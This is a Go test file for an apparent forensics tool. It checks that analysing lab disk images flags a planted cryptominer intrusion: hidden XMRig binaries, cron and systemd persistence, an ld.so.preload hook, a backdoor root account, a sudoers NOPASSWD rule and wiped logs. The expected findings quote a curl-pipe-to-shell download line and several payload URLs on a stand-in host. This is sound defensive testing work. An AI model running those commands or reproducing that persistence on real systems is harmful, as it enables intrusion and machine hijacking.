package forensics_test

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics"
	"icecore/forensics/artifact"
	"icecore/forensics/detect"
	"icecore/forensics/filesystem"
	"icecore/forensics/model"
	"icecore/forensics/report"
)

// lab gives the path of one of the large snapshots, which are not part of the
// repository: a directory that the environment names holds them.
func lab(t *testing.T, name string) string {
	t.Helper()
	dir := os.Getenv("ICECORE_LAB")
	if dir == "" {
		t.Skip("ICECORE_LAB does not name a directory with the large snapshots")
	}
	p := filepath.Join(dir, name)
	if _, err := os.Stat(p); err != nil {
		t.Skipf("ICECORE_LAB lacks %s", name)
	}
	return p
}

var analysed = make(map[string]*forensics.Analysis)

// analysisOf analyses a snapshot of the lab, once.
func analysisOf(t *testing.T, name string) *forensics.Analysis {
	t.Helper()
	p := lab(t, name)
	if analysed[name] == nil {
		a, err := forensics.Analyze(t.Context(), p, forensics.Options{})
		if err != nil {
			t.Fatal(err)
		}
		analysed[name] = a
	}
	return analysed[name]
}

func noneAbove(t *testing.T, a *forensics.Analysis, level detect.Level) {
	t.Helper()
	for i := range a.Findings {
		if f := &a.Findings[i]; f.Level > level {
			t.Errorf("%s: %s at %s: %s", f.Level, f.Rule, f.Source.Path, f.Title)
		}
	}
	if state := a.Verdict.State; level <= detect.Low && state != detect.NoIndicators || state == detect.Compromised {
		t.Errorf("verdict %s", state)
	}
}

// plantedFile is what a snapshot is known to hold, and what a finding must say.
type plantedFile struct {
	path  string
	state filesystem.State
	level detect.Level // at least
	text  string       // in what the finding says
}

// checkPlanted looks for a finding about each planted thing: at its path, or with a
// record from there among its proof.
func checkPlanted(t *testing.T, a *forensics.Analysis, list []plantedFile) {
	t.Helper()
	records := make(map[string]*artifact.Record, len(a.Records))
	for i := range a.Records {
		records[a.Records[i].ID] = &a.Records[i]
	}
	for _, p := range list {
		found := slices.ContainsFunc(a.Findings, func(f model.Finding) bool {
			return f.Level >= p.level && strings.Contains(said(&f), p.text) && slices.ContainsFunc(f.Records, func(id string) bool {
				r := records[id]
				return r != nil && r.Source.Path == p.path && r.Source.State == p.state
			})
		})
		if !found {
			t.Errorf("%s (%s): no finding of level %s or above that says %q", p.path, p.state, p.level, p.text)
		}
	}
}

// standing is what is planted and still stands after the logs were wiped.
var standing = []plantedFile{
	{path: "/tmp/.ICE-unix/.x/kswapd0", level: detect.Critical, text: "XMRig_Binary"},
	{path: "/tmp/.ICE-unix/.x/kswapd0", level: detect.High, text: "2019-01-01T00:00:00Z"},
	{path: "/tmp/.ICE-unix/.x/config.json", level: detect.High, text: "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL"},
	{path: "/var/spool/cron/crontabs/root", level: detect.High, text: "http://203.0.113.77/i.sh"},
	{path: "/etc/cron.d/0sysstat", level: detect.High, text: "http://203.0.113.77/c.sh"},
	{path: "/etc/cron.hourly/man-db2", level: detect.High, text: "/tmp/.ICE-unix/.x/kswapd0"},
	{path: "/etc/systemd/system/systemd-resolve-helper.service", level: detect.High, text: "/tmp/.ICE-unix/.x/kswapd0"},
	{path: "/etc/systemd/system/multi-user.target.wants/systemd-resolve-helper.service", level: detect.High, text: "multi-user.target.wants"},
	{path: "/etc/systemd/system/ssh.service.d/10-env.conf", level: detect.High, text: "/tmp/.ICE-unix/.x/kswapd0"},
	{path: "/etc/rc.local", level: detect.High, text: "/tmp/.ICE-unix/.x/kswapd0"},
	{path: "/var/lib/dpkg/info/openssh-server.postinst", level: detect.High, text: "nohup /tmp/.ICE-unix/.x/kswapd0"},
	{path: "/etc/ld.so.preload", level: detect.High, text: "/usr/local/lib/libsystem-x.so"},
	{path: "/usr/local/lib/libsystem-x.so", level: detect.High, text: "T1574.006"},
	{path: "/root/.ssh/authorized_keys", level: detect.High, text: "mdrfckr"},
	{path: "/root/.ssh/authorized_keys", level: detect.Medium, text: "T1222.002"},
	{path: "/etc/passwd", level: detect.High, text: "sysupd"},
	{path: "/etc/shadow", level: detect.High, text: "sysupd"},
	{path: "/etc/sudoers.d/zz", level: detect.High, text: "ALL ALL=(ALL) NOPASSWD: ALL"},
	{path: "/etc/ssh/sshd_config", level: detect.Informational, text: "PermitRootLogin yes"},
	{path: "/etc/profile.d/zz-lang.sh", level: detect.High, text: "http://203.0.113.77/b.sh"},
	{path: "/var/www/html/.cache.php", level: detect.High, text: "T1505.003"},
	{path: "/usr/bin/.sshd-agent", level: detect.Critical, text: "XMRig_Binary"},
	{path: "/usr/bin/.sshd-agent", level: detect.High, text: "T1548.001"},
	{path: "/usr/bin/ss", level: detect.High, text: "T1554"},
}

// TestLabClean: a server full of what looks like an intruder's work and is none.
func TestLabClean(t *testing.T) {
	a := analysisOf(t, "gen0.raw")
	noneAbove(t, a, detect.Low)
	checkSources(t, lab(t, "gen0.raw"), a)
	checkRecords(t, lab(t, "gen0.raw"), a)
}

// TestLabGuessing: passwords are being guessed, none was right.
func TestLabGuessing(t *testing.T) {
	a := analysisOf(t, "gen1.raw")
	noneAbove(t, a, detect.Medium)
	checkSources(t, lab(t, "gen1.raw"), a)
	checkRecords(t, lab(t, "gen1.raw"), a)
}

func TestLabCompromised(t *testing.T) {
	a := analysisOf(t, "gen2.raw")
	checkPlanted(t, a, append([]plantedFile{
		{path: "/var/log/auth.log", level: detect.Critical, text: "Accepted password for root from 203.0.113.77"},
		{path: "/var/log/auth.log", level: detect.High, text: "name=sysupd, UID=0"},
		{path: "/root/.bash_history", level: detect.Medium, text: "curl -fsSL http://203.0.113.77/i.sh | sh"},
		{path: "/tmp/dropper.sh", state: filesystem.Deleted, level: detect.Medium, text: "http://203.0.113.77/x86_64"},
	}, standing...))
	checkOrphan(t, a, lab(t, "gen2.raw"))
	checkSources(t, lab(t, "gen2.raw"), a)
	checkRecords(t, lab(t, "gen2.raw"), a)

	// The log tells when the password was accepted; the verdict counts from there.
	var accepted time.Time
	for i := range a.Records {
		if r := &a.Records[i]; r.Kind == "auth.login" && r.Get("address") == "203.0.113.77" {
			accepted = r.Time("logged")
		}
	}
	if a.Verdict.State != detect.Compromised || !a.Verdict.Since.Time.Equal(accepted) {
		t.Errorf("verdict %s since %s, want compromised since %s", a.Verdict.State, a.Verdict.Since, accepted)
	}
	checkStory(t, a)
}

// checkOrphan looks for the miner that was deleted while it ran. Whether its content
// had reached the disk when the image was taken is a matter of seconds.
func checkOrphan(t *testing.T, a *forensics.Analysis, image string) {
	t.Helper()
	img, err := forensics.Open(t.Context(), image, forensics.OpenOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer img.Close()
	v, err := img.Volume("")
	if err != nil {
		t.Fatal(err)
	}
	orphans := 0
	err = v.FS.Walk(t.Context(), filesystem.WalkOptions{Orphans: true}, func(e *filesystem.Entry) error {
		if e.Inode == nil || e.Inode.State != filesystem.Orphan || !e.Inode.IsRegular() || e.Inode.Mode&0o111 == 0 {
			return nil
		}
		orphans++
		p := plantedFile{path: e.Path, state: filesystem.Orphan, level: detect.Critical, text: "XMRig_Binary"}
		if e.Inode.Size == 0 {
			p.level, p.text = detect.Low, "deleted while it was open"
		}
		checkPlanted(t, a, []plantedFile{p})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if orphans != 1 {
		t.Errorf("%d orphans that may be executed, want 1", orphans)
	}
}

// checkStory: in the order of time, the way in first, and only lines that a finding
// proves.
func checkStory(t *testing.T, a *forensics.Analysis) {
	t.Helper()
	ids := make(map[string]bool)
	for _, f := range a.Findings {
		ids[f.ID] = true
	}
	if len(a.Story) == 0 || a.Story[0].Phase != detect.PhaseAccess {
		t.Fatal("the story does not begin with the way in")
	}
	phases := make(map[string]bool)
	last := time.Time{}
	for _, l := range a.Story {
		phases[string(l.Phase)] = true
		if !ids[l.Finding] {
			t.Errorf("%q: there is no finding %s", l.Text, l.Finding)
		}
		if l.When.IsZero() {
			continue
		}
		at := l.When.Time
		if at.Before(last) {
			t.Errorf("%q at %s, after %s", l.Text, at, last)
		}
		last = at
	}
	for _, p := range []model.Phase{detect.PhaseAccess, detect.PhasePersistence, detect.PhaseMining, detect.PhaseEvasion} {
		if !phases[string(p)] {
			t.Errorf("the story has no line of the phase %s", p)
		}
	}
	if n := len(a.Verdict.Because); n == 0 || n > 6 {
		t.Errorf("the verdict rests on %d findings", n)
	}
}

// TestLabWiped: the logs were emptied and removed; the same disk, unmounted.
func TestLabWiped(t *testing.T) {
	for _, name := range []string{"gen3.raw", "gen4.raw"} {
		t.Run(name, func(t *testing.T) {
			a := analysisOf(t, name)
			checkPlanted(t, a, append([]plantedFile{
				{path: "/root/.bash_history", level: detect.Medium, text: "T1070.003"},
				{path: "/var/log/auth.log", level: detect.Medium, text: "T1070.002"},
				{path: "/var/log/wtmp", level: detect.Medium, text: "T1070.002"},
				{path: "/var/log/syslog", level: detect.Medium, text: "T1070.002"},
			}, standing...))
			if a.Verdict.State != detect.Compromised {
				t.Errorf("verdict %s", a.Verdict.State)
			}
			checkSources(t, lab(t, name), a)
			checkRecords(t, lab(t, name), a)
		})
	}
}

// TestLabContainer: the same disk in another container gives the same findings.
func TestLabContainer(t *testing.T) {
	raw, packed := analysisOf(t, "gen2.raw"), analysisOf(t, "ref.qcow2")
	if d := cmp.Diff(raw.Findings, packed.Findings); d != "" {
		t.Error(d)
	}
	if d := cmp.Diff(raw.Verdict, packed.Verdict); d != "" {
		t.Error(d)
	}
}

// TestLabJobs: the number of workers is not to be seen in the output.
func TestLabJobs(t *testing.T) {
	sameBytes(t, lab(t, "gen2.raw"))
}

// sameBytes compares the JSON that one and that two workers give.
func sameBytes(t *testing.T, image string) {
	t.Helper()
	var out [3]bytes.Buffer
	for i, jobs := range []int{1, 2, 2} {
		a, err := forensics.Analyze(t.Context(), image, forensics.Options{Scan: forensics.ScanOptions{Jobs: jobs}})
		if err != nil {
			t.Fatal(err)
		}
		if err := report.JSON(&out[i], &a.Analysis); err != nil {
			t.Fatal(err)
		}
	}
	for i := range out {
		if !bytes.Equal(out[0].Bytes(), out[i].Bytes()) {
			t.Errorf("another output: %s", firstDifference(out[0].Bytes(), out[i].Bytes()))
		}
	}
}

func firstDifference(a, b []byte) string {
	x, y := strings.Split(string(a), "\n"), strings.Split(string(b), "\n")
	for i := range min(len(x), len(y)) {
		if x[i] != y[i] {
			return "line " + strconv.Itoa(i+1) + ": " + x[i] + " / " + y[i]
		}
	}
	return "one is longer"
}

// expectation is what the driver of the booted guest wrote down.
type expectation struct {
	Intrusion time.Time `json:"intrusion"`
	Addresses struct {
		Intruder string   `json:"intruder"`
		Noise    []string `json:"noise"`
	} `json:"addresses"`
	Marks struct {
		DeletedMiner uint64 `json:"deleted_miner_inode"`
	} `json:"marks"`
	LocalFiles map[string]string `json:"local_files"`
	Snapshots  []struct {
		Name   string `json:"name"`
		Verify struct {
			Orphans []struct {
				Inode   uint64 `json:"inode"`
				SHA256  string `json:"content_sha256"`
				IsMiner bool   `json:"is_the_miner"`
			} `json:"orphans"`
		} `json:"verify"`
		Planted []struct {
			Path   string `json:"path"`
			Absent bool   `json:"absent"`
		} `json:"planted"`
	} `json:"snapshots"`
}

func expected(t *testing.T) *expectation {
	t.Helper()
	b, err := os.ReadFile(lab(t, "booted/expect.json"))
	if err != nil {
		t.Fatal(err)
	}
	e := &expectation{}
	if err := json.Unmarshal(b, e); err != nil {
		t.Fatal(err)
	}
	return e
}

// TestBootedClean: two weeks of a server's life, then passwords being guessed.
func TestBootedClean(t *testing.T) {
	for _, tt := range []struct {
		name  string
		level detect.Level
	}{{"booted/s1.raw", detect.Low}, {"booted/s2.raw", detect.Low}, {"booted/s3.raw", detect.Medium}} {
		t.Run(tt.name, func(t *testing.T) {
			a := analysisOf(t, tt.name)
			noneAbove(t, a, tt.level)
			checkSources(t, lab(t, tt.name), a)
			checkRecords(t, lab(t, tt.name), a)
		})
	}
}

// bootedStanding is what was planted by typing commands, and stands in both
// snapshots after the intrusion.
func bootedStanding(hidden string) []plantedFile {
	return []plantedFile{
		{path: hidden + "/kswapd0", level: detect.Critical, text: "XMRig_Binary"},
		{path: hidden + "/kswapd0", level: detect.High, text: "2019-01-01T00:00:00Z"},
		{path: "/etc/systemd/system/systemd-resolve-helper.service", level: detect.High, text: hidden + "/kswapd0"},
		{path: "/etc/systemd/system/multi-user.target.wants/systemd-resolve-helper.service", level: detect.High, text: hidden},
		{path: "/var/spool/cron/crontabs/root", level: detect.High, text: "http://203.0.113.77/i.sh"},
		{path: "/etc/rc.local", level: detect.High, text: hidden + "/kswapd0"},
		{path: "/var/lib/dpkg/info/openssh-server.postinst", level: detect.High, text: hidden + "/kswapd0"},
		{path: "/usr/bin/ss", level: detect.High, text: "T1554"},
		{path: "/usr/local/lib/libsystem-x.so", level: detect.High, text: "T1574.006"},
		{path: "/etc/ld.so.preload", level: detect.High, text: "libsystem-x.so"},
		{path: "/root/.ssh/authorized_keys", level: detect.High, text: "mdrfckr"},
		{path: "/root/.ssh/authorized_keys", level: detect.Medium, text: "T1222.002"},
		{path: "/etc/passwd", level: detect.High, text: "sysupd"},
		{path: "/etc/shadow", level: detect.High, text: "sysupd"},
		{path: "/var/tmp/.sysupd/kthreadd", state: filesystem.Orphan, level: detect.Critical, text: "XMRig_Binary"},
	}
}

func TestBootedCompromised(t *testing.T) {
	e := expected(t)
	for _, name := range []string{"s4", "s5"} {
		t.Run(name, func(t *testing.T) {
			a := analysisOf(t, "booted/"+name+".raw")
			if a.Verdict.State != detect.Compromised {
				t.Errorf("verdict %s", a.Verdict.State)
			}
			checkSources(t, lab(t, "booted/"+name+".raw"), a)
			checkRecords(t, lab(t, "booted/"+name+".raw"), a)
			hidden := ""
			for _, s := range e.Snapshots {
				if s.Name != name {
					continue
				}
				hidden = filepath.Dir(s.Planted[0].Path)
				for _, o := range s.Verify.Orphans {
					if o.IsMiner {
						checkOrphanHash(t, a, o.Inode, o.SHA256)
					}
				}
			}
			list := bootedStanding(hidden)
			if name == "s4" {
				list = append(list,
					plantedFile{path: hidden + "/config.json", level: detect.High, text: "203.0.113.77:3333"},
					plantedFile{path: "/var/log/auth.log", level: detect.Critical, text: "Accepted password for root from " + e.Addresses.Intruder})
			} else {
				list = append(list,
					plantedFile{path: "/root/.bash_history", level: detect.Medium, text: "T1070.003"},
					plantedFile{path: "/var/log/auth.log", level: detect.Medium, text: "T1070.002"},
					plantedFile{path: "/var/log/wtmp", level: detect.Medium, text: "T1070.002"},
					plantedFile{path: "/var/log/btmp", level: detect.Medium, text: "T1070.002"})
			}
			checkPlanted(t, a, list)
		})
	}
	t.Run("since", func(t *testing.T) {
		a := analysisOf(t, "booted/s4.raw")
		since := a.Verdict.Since.Time
		// What journalctl read of the same snapshot says when sshd accepted the
		// password. The driver's own mark was made when the session had ended.
		accepted := journalAccepted(t, e.Addresses.Intruder)
		if d := since.Sub(accepted).Abs(); d > time.Second {
			t.Errorf("since %s, sshd accepted the password %s", since, accepted)
		}
		if since.After(e.Intrusion.Add(time.Second)) || e.Intrusion.Sub(since) > 10*time.Second {
			t.Errorf("since %s, the driver saw the login at %s", since, e.Intrusion)
		}
		checkStory(t, a)
	})
}

func checkOrphanHash(t *testing.T, a *forensics.Analysis, inode uint64, sum string) {
	t.Helper()
	for _, f := range a.Findings {
		if f.Source.Inode == inode && f.Source.State == model.Orphan && f.Source.SHA256 == sum {
			return
		}
	}
	t.Errorf("no finding about the orphan inode %d with the hash %s", inode, sum)
}

// journalAccepted gives when the first password from an address was accepted.
func journalAccepted(t *testing.T, address string) (at time.Time) {
	t.Helper()
	toldByJournalctl(t, "s4", func(e map[string]any) {
		m, _ := e["MESSAGE"].(string)
		if !at.IsZero() || !strings.HasPrefix(m, "Accepted password for root from "+address) {
			return
		}
		us, err := strconv.ParseInt(jsonBytes(e["__REALTIME_TIMESTAMP"]), 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		at = time.UnixMicro(us).UTC()
	})
	if at.IsZero() {
		t.Fatalf("the journal tells of no login from %s", address)
	}
	return at
}
